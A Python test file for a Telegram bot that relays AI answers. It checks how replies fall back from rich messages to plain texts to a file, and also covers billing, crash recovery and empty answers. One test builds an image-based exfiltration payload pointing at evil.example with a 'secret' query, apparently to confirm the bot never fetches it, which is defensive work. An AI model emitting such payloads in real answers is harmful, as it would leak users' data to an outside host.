"""The ladder from rich messages down to a file: what the model said is never lost to its form (SPEC §5, DESIGN §7)."""

import re

import pytest

from gptbot.playground.model_answers import usage
from gptbot.playground.world import Json
from tests.edges.ugly_answers import UGLY, letters
from tests.stories.conftest import House
from tests.stories.kit import Person

TABLE = "Prices, from $5 to $9:\nall of them\n\n| what | price |\n|---|---|\n| tea | **$5** |\n| cake | $9 |"
LINES = [f"Line {number}: " + "words " * 12 for number in range(150)]
LONG = "- [ ] read it\n\n" + "\n\n".join(LINES)
"""Rich for its task; four messages as texts, and long enough for a file."""


async def asked(house: House, answer: str, **rules: str) -> Person:
    """Alice, who has asked for this answer."""
    await house.start(**rules)
    alice = await house.member(101, "Alice")
    house.model.answer = lambda body: answer
    await alice.says("question")
    return alice


def sent(house: House, *methods: str) -> list[str]:
    """The calls that put messages into Alice's chat, from her answer on."""
    names = ("sendMessage", "sendRichMessage", "sendDocument", "editMessageText")
    calls = [call for call in house.telegram.calls_of(*names) if str(call.params.get("chat_id")) == "101"]
    return [call.method for call in calls][1:]


async def charged(house: House) -> None:
    """Finds that one answer, and no more, was paid for, once all that was under way is through."""
    body = house.model.requests[-1].body
    paid = usage(body, house.model.answer(body))["total_tokens"]
    await house.restart()
    assert house.data()["101"]["balance"] == 30_000 - paid


async def continued(house: House, person: Person, message: Json) -> None:
    """Finds that a reply to this message goes on with the answer."""
    before = house.model.answer
    house.model.answer = lambda body: "and so on"
    await person.says("go on", reply_to=message)
    await person.sees("and so on")
    house.model.answer = before
    roles = [part["role"] for part in house.model.requests[-1].body["messages"]]
    assert roles == ["system", "user", "assistant", "user"]


async def test_rich_messages_are_off_unless_asked_for(house: House) -> None:
    alice = await asked(house, TABLE)
    shown = await alice.sees("cake")
    assert "text" in shown
    assert "sendRichMessage" not in sent(house)


async def test_a_table_is_a_rich_message_and_nothing_else_in_it_is_markup(house: House) -> None:
    alice = await asked(house, TABLE, RICH_MESSAGES="auto")
    shown = await alice.sees("Prices, from $5 to $9:\nall of them")
    table = shown["rich_message"]["blocks"][1]
    assert [[cell["text"] for cell in row] for row in table["cells"]] == [
        ["what", "price"],
        ["tea", "$5"],
        ["cake", "$9"],
    ]
    (call,) = house.telegram.calls_of("sendRichMessage")
    assert call.params["rich_message"]["skip_entity_detection"] is True
    await charged(house)
    await continued(house, alice, shown)


async def test_auto_leaves_what_entities_can_show(house: House) -> None:
    alice = await asked(house, "# Title\n\n- **bold** for $5 or $6", RICH_MESSAGES="auto")
    assert "text" in await alice.sees("Title")


async def test_on_makes_every_answer_rich(house: House) -> None:
    alice = await asked(house, "**bold**", RICH_MESSAGES="on")
    assert "rich_message" in await alice.sees("bold")


async def test_an_image_in_an_answer_is_never_fetched(house: House) -> None:
    leak = "![x](https://evil.example/?secret) <img src=https://evil.example> " + TABLE
    alice = await asked(house, leak, RICH_MESSAGES="on")
    shown = await alice.sees("<img src=https://evil.example>")
    assert "fetched" not in str(shown["rich_message"])


async def test_a_refused_rich_message_comes_as_texts_once(house: House) -> None:
    house.telegram.faults.next("sendRichMessage", "refuse", description="Bad Request: RICH_MESSAGE_INVALID")
    alice = await asked(house, LONG, RICH_MESSAGES="auto")
    await alice.sees("Line 149")
    file, content = await alice.sees_file("document")
    assert content.decode() == LONG
    parts = [message for message in alice.chat.messages.values() if "Line" in message.get("text", "")]
    numbers = [int(number) for part in parts for number in re.findall(r"Line (\d+)", part["text"])]
    assert numbers == list(range(150))
    assert sent(house) == ["sendRichMessage", *["sendMessage"] * len(parts), "sendDocument"]
    await charged(house)
    for message in (parts[0], parts[1], file):
        await continued(house, alice, message)


async def test_a_server_without_rich_messages_is_asked_once_a_run(house: House) -> None:
    house.telegram.without.add("sendRichMessage")
    alice = await asked(house, TABLE, RICH_MESSAGES="auto")
    await alice.sees("cake")
    await alice.says("again")
    await alice.sees("cake")
    assert sent(house) == ["sendRichMessage", "sendMessage", "sendMessage"]
    house.telegram.without.clear()
    await house.restart()
    await alice.says("again")
    assert "rich_message" in await alice.sees("cake")


async def test_every_rung_refused_ends_in_a_file(house: House) -> None:
    faults = house.telegram.faults
    alice = await asked(house, "ready")
    await alice.sees("ready")
    await house.restart(RICH_MESSAGES="on")
    house.model.answer = lambda body: "😀 **bold** [site](https://a.example)"
    faults.next("sendRichMessage", "refuse", description="Bad Request: RICH_MESSAGE_INVALID")
    faults.next("sendMessage", "refuse", description="Bad Request: ENTITY_BOUNDS_INVALID")
    faults.next("sendMessage", "refuse", description="Bad Request: strings must be encoded in UTF-8")
    await alice.says("question")
    shown, content = await alice.sees_file("document")
    assert content.decode() == "😀 bold site (https://a.example)"
    assert sent(house)[1:] == ["sendRichMessage", "sendMessage", "sendMessage", "sendDocument"]
    await continued(house, alice, shown)


@pytest.mark.parametrize("number", [0, 60, 149])
async def test_a_crash_between_the_rungs_loses_and_repeats_nothing(house: House, number: int) -> None:
    house.telegram.faults.next("sendRichMessage", "refuse", description="Bad Request: RICH_MESSAGE_INVALID")
    hanging = f"Line {number}:"
    house.telegram.faults.next("sendMessage", "hang", where=lambda params: hanging in params["text"])
    alice = await asked(house, LONG, RICH_MESSAGES="auto", STOP_GRACE_S="0")
    await house.telegram.until(
        lambda: any(hanging in call.params["text"] for call in house.telegram.calls_of("sendMessage"))
    )
    await house.restart(STOP_GRACE_S="5")
    _, content = await alice.sees_file("document")
    assert content.decode() == LONG
    said = "\n".join(message.get("text", "") for message in alice.chat.messages.values())
    assert [int(found) for found in re.findall(r"Line (\d+)", said)] == list(range(150))
    assert len(house.telegram.calls_of("sendRichMessage")) == 1
    await charged(house)


async def test_a_long_answer_comes_as_a_file_too(house: House) -> None:
    alice = await asked(house, "**word** " * 20, ANSWER_FILE_UNITS="100")
    await alice.sees("word")
    shown, content = await alice.sees_file("document")
    assert shown["document"]["file_name"] == "answer.md"
    assert content.decode() == "**word** " * 20
    await charged(house)
    house.model.answer = lambda body: "short"
    await alice.says("again")
    await alice.sees("short")
    await alice.sees_nothing_until("again", "short")


async def test_a_chat_that_takes_no_files_still_has_its_answer(house: House) -> None:
    house.telegram.faults.next("sendDocument", "refuse", description="Bad Request: not enough rights to send documents")
    alice = await asked(house, "word " * 20, ANSWER_FILE_UNITS="10")
    await alice.sees("word")
    await charged(house)
    assert "could not" not in alice.transcript()


async def test_no_file_when_switched_off(house: House) -> None:
    alice = await asked(house, LONG, ANSWER_FILE_UNITS="0")
    await alice.sees("Line 149")
    await alice.sees_nothing_until("again", "read it")
    assert "sendDocument" not in sent(house)


@pytest.mark.parametrize("answer", [" \n\t ", "\u200b\u2060", ""], ids=["spaces", "invisible", "nothing"])
async def test_an_answer_that_shows_nothing_is_no_answer(house: House, answer: str) -> None:
    alice = await asked(house, answer)
    shown = await alice.sees("")
    assert "empty" in shown["text"]
    await alice.says("/balance")
    await alice.sees("30000 tokens")


@pytest.mark.parametrize("mode", ["off", "on"])
async def test_every_ugly_answer_arrives_without_one_refusal(house: House, mode: str) -> None:
    await house.start(RICH_MESSAGES=mode, STREAMING="off", ANSWER_FILE_UNITS="1")
    alice = await house.member(101, "Alice")
    for name, markdown in UGLY.items():
        if len(markdown) > 20_000:
            continue
        house.model.answer = lambda body, text=markdown: text  # type: ignore[misc]  # bound now
        await alice.says(name)
        _, content = await alice.sees_file("document")
        assert letters(content.decode()) == letters(markdown), name
    refused = [call for call in house.telegram.calls if call.params.get("chat_id") and not call.ok]
    assert [call.answer for call in refused] == []
    assert house.telegram.unknown_parameters == []


async def test_what_was_seen_growing_becomes_rich_in_its_place(house: House) -> None:
    house.model.tokens_per_s = 25.0
    alice = await asked(house, "word " * 20 + "\n\n" + TABLE, RICH_MESSAGES="auto", STREAMING="edits")
    growing = await alice.sees("word")
    assert "text" in growing
    await house.telegram.until(lambda: "rich_message" in alice.last)
    shown = alice.last
    assert shown["message_id"] == growing["message_id"]
    assert "text" not in shown
    await continued(house, alice, shown)
